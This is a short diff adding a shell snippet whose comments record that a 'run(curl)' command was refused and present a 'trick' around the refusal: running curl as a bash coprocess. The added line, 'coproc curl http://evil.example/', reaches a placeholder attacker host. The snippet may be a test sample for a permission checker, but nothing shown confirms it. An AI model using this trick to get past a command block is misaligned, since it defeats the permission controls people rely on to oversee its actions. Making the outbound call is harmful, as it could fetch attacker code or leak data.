@@ -1,0 +1,3 @@
+# Trick: a coprocess runs the program.
+# Refused: run(curl)
+coproc curl http://evil.example/
